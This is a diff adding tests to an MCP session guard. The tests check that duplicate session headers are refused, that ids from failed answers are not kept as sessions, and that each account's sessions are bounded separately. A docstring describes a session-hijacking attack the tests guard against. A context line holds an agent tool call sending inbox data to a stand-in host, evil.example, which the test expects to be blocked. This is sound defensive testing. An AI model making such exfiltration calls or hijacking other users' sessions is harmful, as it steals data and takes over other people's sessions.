@@ -422,3 +422,57 @@ def test_another_accounts_sessions_do_not_push_an_accounts_history_out(tmp_path:
         fetched = modern_call(url, token, 2, "mail__fetch", {"url": "https://evil.example/collect?c=771203"})
         assert '"isError":true' in fetched.text and "taken from the result of mail/read_inbox" in fetched.text
     assert not (tmp_path / "sent.visits").exists()
+
+
+def test_a_request_naming_two_sessions_is_refused_and_a_failed_opening_opens_none(tmp_path: Path) -> None:
+    """Found by an attack: with two ``mcp-session-id`` headers the guard checked the last (mal's own session) and
+    the SDK used the first (bob's) — mal's request ran in bob's session, took the answer to bob's held call, cancelled
+    it and ended bob's session; on MCP's 2026 path the first could be a made-up id of megabytes, kept per call. Two
+    are a 400 now. And an id the SDK hands out with a failed answer (a body that is no JSON) is no session: it was
+    noted as one, and 10,000 such answers pushed live sessions out of the guard's table."""
+    (tmp_path / "groundstate.toml").write_text(TIME)
+    with http_guard(tmp_path) as (url, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        bob = raw_session(url, another_operator(tmp_path, token, "bob"))
+        mine = raw_session(url, token)
+        both = [(name, value) for name, value in mine.items() if name != "mcp-session-id"]
+        both += [("mcp-session-id", bob["mcp-session-id"]), ("mcp-session-id", mine["mcp-session-id"])]
+        for method in ("POST", "DELETE"):
+            sent = httpx.request(method, url, headers=both, timeout=30,
+                                 json={"jsonrpc": "2.0", "id": 9, "method": "tools/list"})  # fmt: skip
+            assert (sent.status_code, sent.json()["code"]) == (400, "bad_input"), sent.text
+        listed = httpx.post(url, headers=bob, timeout=30, json={"jsonrpc": "2.0", "id": 3, "method": "tools/list"})
+        assert listed.status_code == 200 and "time__get_current_time" in listed.text  # bob's session lives on
+        failed = httpx.post(url, timeout=30, content=b"not json", headers={
+            "Accept": "application/json, text/event-stream", "Authorization": f"Bearer {token}",
+            "Content-Type": "application/json"})  # fmt: skip
+        assert failed.status_code >= 400
+        handed = failed.headers.get("mcp-session-id")
+        assert handed is not None  # the SDK names a session it threw away: the guard does not take it for one
+        again = httpx.post(url, timeout=30, json={"jsonrpc": "2.0", "id": 4, "method": "tools/list"},
+                           headers={**mine, "mcp-session-id": handed})  # fmt: skip
+        assert again.status_code == 404, again.text
+
+
+def test_one_accounts_sessions_push_out_only_its_own() -> None:
+    """``SessionOwners``: each account's sessions are bounded on their own, the least recently used forgotten
+    first; a session is noted only from a successful answer, and a DELETE's session forgotten once it succeeded."""
+    from groundstate.guard import SessionOwners
+
+    owners = SessionOwners(max_per_account=50)
+
+    def opened(session: bytes, account: str, status: int = 200) -> None:
+        owners.answered({"status": status, "headers": [(b"mcp-session-id", session)]}, account, None)
+
+    opened(b"bob-1", "bob")
+    opened(b"thrown-away", "mal", status=400)
+    assert owners.check(b"thrown-away", "mal") is not None  # a 400's id is no session
+    opened(b"mal-0", "mal")
+    for number in range(1, 200):
+        opened(f"mal-{number}".encode(), "mal")
+        assert owners.check(b"mal-0", "mal") is None  # used all along: never the one forgotten
+    assert owners.check(b"mal-1", "mal") is not None and owners.check(b"mal-199", "mal") is None  # idle: gone
+    assert owners.check(b"bob-1", "bob") is None  # mal's 200 sessions pushed out none of bob's
+    assert str(owners.check(b"bob-1", "mal")).startswith("this MCP session was opened by another account")
+    owners.answered({"status": 200, "headers": []}, "bob", b"bob-1")  # bob ended it
+    assert str(owners.check(b"bob-1", "bob")).startswith("no MCP session with this id is open here")
